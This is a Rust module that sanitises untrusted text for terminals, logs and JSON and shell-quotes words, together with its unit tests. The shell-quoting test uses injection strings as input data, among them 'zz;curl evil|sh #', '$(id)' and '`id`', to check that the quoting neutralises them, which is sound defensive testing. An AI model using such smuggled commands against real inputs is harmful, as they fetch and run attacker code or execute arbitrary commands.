//! Other people's text, where people and programs read it. Keys, reasons and reports in etcd are written by whoever may, and
//! scripts print what they like.
//!
//! One rendering serves terminals, logs and JSON: what a reader would not see, or a terminal would obey, is written as the
//! escape that JSON knows. In a JSON text that changes nothing of what it means, since such characters stand in strings only.

use std::fmt::Write as _;

/// Characters that end lines, drive terminals, turn the direction of what follows, or cannot be seen: control characters, C1
/// and DEL among them, marks of direction, separators, blanks without width, tags.
pub(crate) fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
}

/// Text of several lines, or JSON. Line ends, tabs and our own colours stay.
pub(crate) fn lines(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        let length = colour(rest).unwrap_or(c.len_utf8());
        let (this, after) = rest.split_at(length);
        match c {
            '\n' | '\t' => out.push(c),
            _ if length > c.len_utf8() || !is_hidden(c) => out.push_str(this),
            _ => escape(c, &mut out),
        }
        rest = after;
    }
    out
}

/// Text of one line.
pub(crate) fn line(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if is_hidden(c) {
            escape(c, &mut out);
        } else {
            out.push(c);
        }
    }
    out
}

fn escape(c: char, out: &mut String) {
    for unit in c.encode_utf16(&mut [0; 2]) {
        let _ = write!(out, "\\u{unit:04x}");
    }
}

/// The length of a change of colour at the beginning: all that is let through of what drives a terminal.
fn colour(text: &str) -> Option<usize> {
    let rest = text.strip_prefix("\x1b[")?;
    let digits = rest.find(|c: char| !(c.is_ascii_digit() || c == ';'))?;
    rest[digits..].starts_with('m').then_some(digits + 3)
}

/// Text without our colours, and nothing else that begins as they do.
pub(crate) fn uncoloured(text: &str) -> String {
    let mut parts = text.split("\x1b[");
    let first = parts.next().unwrap_or_default();
    let rest = parts.map(|part| part.split_once('m').map_or("", |(_, text)| text));
    first.to_owned() + &rest.collect::<String>()
}

/// A word as it is typed in a shell.
pub(crate) fn shell(word: &str) -> String {
    let plain = |c: char| c.is_ascii_alphanumeric() || "_./:@%+=,-".contains(c);
    if !word.is_empty() && word.chars().all(plain) && !word.starts_with('-') {
        return word.to_owned();
    }
    format!("'{}'", line(word).replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// One of each kind.
    const HIDDEN: [char; 16] = [
        '\0',
        '\x07',
        '\x08',
        '\r',
        '\x1b',
        '\x7f',
        '\u{85}',
        '\u{9b}',
        '\u{9d}',
        '\u{200b}',
        '\u{200f}',
        '\u{2028}',
        '\u{202e}',
        '\u{2066}',
        '\u{feff}',
        '\u{e0041}',
    ];

    #[test]
    fn what_a_terminal_obeys_or_nobody_sees_is_written_as_an_escape() {
        for c in HIDDEN {
            for cleaned in [lines(&format!("a{c}b")), line(&format!("a{c}b"))] {
                assert!(
                    cleaned.starts_with("a\\u") && cleaned.ends_with('b'),
                    "{cleaned:?}"
                );
                assert!(!cleaned.chars().any(is_hidden), "{cleaned:?}");
            }
        }
        assert_eq!(lines("ä\t\u{1f600}\nb"), "ä\t\u{1f600}\nb");
        assert_eq!(line("a\nb\tc"), "a\\u000ab\\u0009c");
        assert_eq!(
            lines("\x1b[31mred\x1b[0m \x1b[2J\x1b]0;t\x07"),
            "\x1b[31mred\x1b[0m \\u001b[2J\\u001b]0;t\\u0007"
        );
    }

    #[test]
    fn json_means_the_same_afterwards() {
        for c in HIDDEN {
            let value = serde_json::json!({ "k": format!("x{c}y") });
            let cleaned = lines(&value.to_string());
            assert!(!cleaned.chars().any(is_hidden), "{cleaned:?}");
            assert_eq!(
                serde_json::from_str::<serde_json::Value>(&cleaned).unwrap(),
                value
            );
        }
    }

    #[test]
    fn what_is_typed_is_one_word_for_a_shell() {
        for word in [
            "node-a",
            "zz;curl evil|sh #",
            "a b",
            "it's",
            "$(id)",
            "`id`",
            "",
            "-x",
            "ä",
            "a\nb",
            "!!",
            "*",
        ] {
            let quoted = shell(word);
            let said = std::process::Command::new("/bin/sh")
                .args(["-c", &format!("printf %s {quoted}")])
                .output()
                .unwrap();
            assert_eq!(
                String::from_utf8(said.stdout).unwrap(),
                line(word),
                "{quoted}"
            );
        }
        assert_eq!(shell("node-1.example.com"), "node-1.example.com");
    }
}
